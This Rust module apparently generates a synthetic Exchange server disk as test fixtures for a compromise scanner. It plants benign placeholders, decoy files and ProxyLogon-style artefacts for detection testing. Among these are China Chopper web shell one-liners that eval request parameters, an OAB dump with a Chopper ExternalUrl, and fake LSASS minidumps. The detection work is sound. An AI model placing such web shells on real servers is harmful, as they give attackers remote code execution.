//! Files on disk: the legitimate OWA/ECP auth files (small placeholders), `aspnet_client`,
//! `Bin\ExSetup.exe`; benign look-alikes; and, on a compromised server, the web shells, LSASS
//! dumps and the staging archive of the scenario.

use super::fmt::{MS_PER_DAY, MS_PER_HOUR, civil, us_datetime};
use super::rng::Rng;
use super::scenario::{CHOPPER_KEY, OAB_VDIR_ID, chopper};
use super::{Content, DiskNote, FileSpec, Server};
use std::io::{Cursor, Write};

const OWA_AUTH: &[(&str, &str)] = &[
    ("logon.aspx", "Logon"),
    ("logoff.aspx", "Logoff"),
    ("errorFE.aspx", "ErrorFE"),
    ("expiredpassword.aspx", "ExpiredPassword"),
    ("frowny.aspx", "Frowny"),
    ("signout.aspx", "SignOut"),
    ("OutlookCN.aspx", "OutlookCN"),
    ("RedirSuiteServiceProxy.aspx", "RedirSuiteServiceProxy"),
];

fn aspx_stub(class: &str, name: &str) -> Vec<u8> {
    format!(
        "<%@ Page language=\"c#\" AutoEventWireup=\"false\" Inherits=\"Microsoft.Exchange.HttpProxy.{class}\" %>\r\n\
         <!-- exsweep fixture: placeholder for the legitimate Exchange file {name} -->\r\n"
    )
    .into_bytes()
}

/// A small real zip (stored entries, fixed timestamps) holding `entries`.
pub(crate) fn small_zip(entries: &[(&str, &[u8])], t: i64) -> Vec<u8> {
    let c = civil(t);
    let when = zip::DateTime::from_date_and_time(c.y as u16, c.mo as u8, c.d as u8, c.h as u8, c.mi as u8, c.s as u8)
        .unwrap_or_default();
    let opts = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated)
        .last_modified_time(when)
        .unix_permissions(0o644);
    let mut z = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, data) in entries {
        if z.start_file(*name, opts).is_err() || z.write_all(data).is_err() {
            return Vec::new();
        }
    }
    z.finish().map(|c| c.into_inner()).unwrap_or_default()
}

impl Server {
    pub(crate) fn disk_files(&self) -> Vec<FileSpec> {
        let ex = &self.ex;
        let installed = self.t0 - 40 * MS_PER_DAY + 9 * MS_PER_HOUR + 14 * 60_000 + 22_000;
        let mut out = Vec::new();
        let mut file = |win_path: String, bytes: Vec<u8>, mtime: i64, disk: Option<DiskNote>| {
            out.push(FileSpec { win_path, content: Content::Bytes(bytes), mtime, disk });
        };
        for (name, class) in OWA_AUTH {
            file(format!(r"{ex}\FrontEnd\HttpProxy\owa\auth\{name}"), aspx_stub(class, name), installed, None);
        }
        let v = &self.short_version;
        let css = b"/* exsweep fixture: placeholder for the OWA logon style sheet */\r\nbody{font-family:'Segoe UI',Tahoma,sans-serif}\r\n".to_vec();
        for folder in [v.as_str(), "Current"] {
            file(
                format!(r"{ex}\FrontEnd\HttpProxy\owa\auth\{folder}\themes\resources\logon.css"),
                css.clone(),
                installed,
                None,
            );
        }
        file(
            format!(r"{ex}\FrontEnd\HttpProxy\owa\auth\{v}\scripts\premium\flogon.js"),
            b"/* exsweep fixture: placeholder for the OWA forms logon script */\r\nfunction clkLgn(){}\r\n".to_vec(),
            installed,
            None,
        );
        file(
            format!(r"{ex}\FrontEnd\HttpProxy\ecp\auth\TimeoutLogout.aspx"),
            aspx_stub("TimeoutLogout", "TimeoutLogout.aspx"),
            installed,
            None,
        );
        file(
            format!(r"{ex}\ClientAccess\OAB\web.config"),
            b"<?xml version=\"1.0\" encoding=\"utf-8\"?>\r\n<configuration>\r\n  <!-- exsweep fixture placeholder -->\r\n</configuration>\r\n".to_vec(),
            installed,
            None,
        );
        let mut exe = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00".to_vec();
        exe.extend_from_slice(b"exsweep fixture: placeholder for ExSetup.exe ");
        exe.extend_from_slice(self.spec.build.as_bytes());
        file(format!(r"{ex}\Bin\ExSetup.exe"), exe, installed, None);
        file(
            r"C:\inetpub\wwwroot\iisstart.htm".into(),
            b"<!DOCTYPE html>\r\n<html><head><title>IIS Windows Server</title></head><body><img src=\"iisstart.png\" alt=\"IIS\"></body></html>\r\n".to_vec(),
            installed,
            None,
        );
        out.push(FileSpec {
            win_path: r"C:\inetpub\wwwroot\aspnet_client\system_web\4_0_30319".into(),
            content: Content::Dir,
            mtime: installed,
            disk: None,
        });

        // Traps: names and places that must not be taken for the real thing.
        let trap_day = |k: u32| self.day_start(k % self.spec.days);
        let mut file = |win_path: String, bytes: Vec<u8>, mtime: i64, disk: Option<DiskNote>| {
            out.push(FileSpec { win_path, content: Content::Bytes(bytes), mtime, disk });
        };
        file(
            r"C:\Windows\Temp\lsass-notes.txt".into(),
            b"lsass.exe memory usage after the February patches: normal (120 MB). -- IT\r\n".to_vec(),
            trap_day(3) + 10 * MS_PER_HOUR,
            Some(DiskNote {
                kind: "trap",
                note: "lsass-notes.txt in Windows\\Temp: starts with lsass but is not a .dmp".into(),
            }),
        );
        let report_t = trap_day(5) + 15 * MS_PER_HOUR;
        file(
            r"C:\Users\Public\report.zip".into(),
            small_zip(&[("report.txt", b"Monthly mail statistics\r\n")], report_t),
            report_t,
            Some(DiskNote { kind: "trap", note: "a .zip outside ProgramData".into() }),
        );

        if !self.spec.compromised {
            return out;
        }
        let day = |offset: i64| {
            let d = (i64::from(self.attack_day) + offset).clamp(0, i64::from(self.spec.days) - 1);
            self.day_start(d as u32)
        };
        let mut rng = Rng::stream(self.spec.seed, &[10]);
        let reset_t = day(0) + (6 * 60 + 49) * 60_000 + 56_843;
        file(
            format!(r"{ex}\FrontEnd\HttpProxy\owa\auth\RedirSuiteServerProxy.aspx"),
            self.oab_dump_shell(reset_t),
            reset_t + 1_200,
            Some(DiskNote {
                kind: "webshell",
                note: "CVE-2021-27065 OAB virtual directory dump with a China Chopper ExternalUrl (HelseCERT name)"
                    .into(),
            }),
        );
        let chopper_t = day(1) + 10 * MS_PER_HOUR + 58 * 60_000 + 2_000;
        file(
            format!(r"C:\inetpub\wwwroot\aspnet_client\system_web\{}.aspx", self.shell_name),
            chopper("x").into_bytes(),
            chopper_t,
            Some(DiskNote {
                kind: "webshell",
                note: "China Chopper one-liner, random 8-character name in aspnet_client\\system_web".into(),
            }),
        );
        let discover_t = day(1) + 4 * MS_PER_HOUR + 40 * 60_000 + 10_000;
        file(
            r"C:\inetpub\wwwroot\aspnet_client\discover.aspx".into(),
            b"<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"discover\"],\"unsafe\");%>".to_vec(),
            discover_t,
            Some(DiskNote {
                kind: "webshell",
                note: "Chopper variant written through the OAB download path (CVE-2021-26858, UNC)".into(),
            }),
        );
        let dump_t = day(2) + 4 * MS_PER_HOUR + 12 * 60_000 + 33_000;
        for (path, t) in [(r"C:\Windows\Temp\lsass.dmp", dump_t), (r"C:\root\lsass.dmp", dump_t + 8 * 60_000)] {
            file(
                path.into(),
                minidump(&mut rng, t),
                t,
                Some(DiskNote { kind: "lsass_dump", note: "LSASS minidump (procdump / comsvcs.dll MiniDump)".into() }),
            );
        }
        let zip_t = day(3) + 2 * MS_PER_HOUR + 3 * 60_000;
        let ip = format!("Windows IP Configuration\r\n\r\n   IPv4 Address. . . . . . . . . . . : {}\r\n", self.ip);
        file(
            r"C:\ProgramData\it.zip".into(),
            small_zip(&[("ip.txt", ip.as_bytes()), ("arp.txt", b"Interface: 10.0.1.1 --- 0x4\r\n")], zip_t),
            zip_t,
            Some(DiskNote { kind: "archive", note: "staging archive in ProgramData (MSTIC it.zip)".into() }),
        );
        out
    }

    /// The `.aspx` a ResetOABVirtualDirectory writes: the virtual directory's properties as text,
    /// ExternalUrl holding the script.
    fn oab_dump_shell(&self, t: i64) -> Vec<u8> {
        let (netbios, domain) = (&self.netbios, &self.spec.domain);
        let dc: Vec<String> = domain.split('.').map(|p| format!("DC={p}")).collect();
        let [a, b, c, r] = self.version;
        let rows: Vec<(&str, String)> = vec![
            ("Name", "OAB (Default Web Site)".into()),
            ("PollInterval", "480".into()),
            ("OfflineAddressBooks", String::new()),
            ("RequireSSL", "True".into()),
            ("BasicAuthentication", "False".into()),
            ("WindowsAuthentication", "True".into()),
            ("OAuthAuthentication", "True".into()),
            ("MetabasePath", format!("IIS://{}/W3SVC/1/ROOT/OAB", self.fqdn)),
            ("Path", format!(r"{}\FrontEnd\HttpProxy\OAB", self.ex)),
            ("ExtendedProtectionTokenChecking", "None".into()),
            ("ExtendedProtectionFlags", String::new()),
            ("ExtendedProtectionSPNList", String::new()),
            ("AdminDisplayVersion", format!("Version {a}.{b} (Build {c}.{r})")),
            ("Server", self.host.clone()),
            ("InternalUrl", format!("https://{}/OAB", self.internal_host)),
            ("InternalAuthenticationMethods", "WindowsIntegrated".into()),
            ("ExternalUrl", format!("http://f/{}", chopper(CHOPPER_KEY))),
            ("ExternalAuthenticationMethods", "WindowsIntegrated".into()),
            ("AdminDisplayName", String::new()),
            ("ExchangeVersion", "0.10 (14.0.100.0)".into()),
            (
                "DistinguishedName",
                format!(
                    "CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN={},CN=Servers,CN=Exchange Administrative Group (FYDIBOHF23SPDLT),CN=Administrative Groups,CN={},CN=Microsoft Exchange,CN=Services,CN=Configuration,{}",
                    self.host,
                    netbios,
                    dc.join(",")
                ),
            ),
            ("Identity", format!("{}\\OAB (Default Web Site)", self.host)),
            ("Guid", OAB_VDIR_ID.into()),
            ("ObjectCategory", format!("{domain}/Configuration/Schema/ms-Exch-OAB-Virtual-Directory")),
            ("ObjectClass", "top".into()),
            ("", "msExchVirtualDirectory".into()),
            ("", "msExchOABVirtualDirectory".into()),
            ("WhenChanged", us_datetime(t - 3_000)),
            ("WhenCreated", us_datetime(self.t0 - 40 * MS_PER_DAY)),
            ("WhenChangedUTC", us_datetime(t - 3_000)),
            ("WhenCreatedUTC", us_datetime(self.t0 - 40 * MS_PER_DAY)),
            ("OrganizationId", String::new()),
            ("Id", format!("{}\\OAB (Default Web Site)", self.host)),
            ("OriginatingServer", format!("DC01.{domain}")),
            ("IsValid", "True".into()),
            ("ObjectState", "Unchanged".into()),
        ];
        let mut s = String::new();
        for (k, v) in rows {
            if k.is_empty() {
                s.push_str(&format!("{:34}{v}\r\n", ""));
            } else {
                s.push_str(&format!("{k:<32}: {v}\r\n"));
            }
        }
        s.into_bytes()
    }
}

/// A small MINIDUMP: a valid header (`MDMP`, version 0xA793) and deterministic filler.
fn minidump(rng: &mut Rng, t: i64) -> Vec<u8> {
    let mut b = Vec::with_capacity(8192);
    b.extend_from_slice(b"MDMP");
    b.extend_from_slice(&0xA793u16.to_le_bytes());
    b.extend_from_slice(&0u16.to_le_bytes());
    b.extend_from_slice(&3u32.to_le_bytes()); // NumberOfStreams
    b.extend_from_slice(&32u32.to_le_bytes()); // StreamDirectoryRva
    b.extend_from_slice(&0u32.to_le_bytes()); // CheckSum
    b.extend_from_slice(&((t / 1000) as u32).to_le_bytes()); // TimeDateStamp
    b.extend_from_slice(&0x0000_0002u64.to_le_bytes()); // MiniDumpWithFullMemory
    while b.len() < 8192 {
        b.extend_from_slice(&rng.next_u64().to_le_bytes());
    }
    b
}
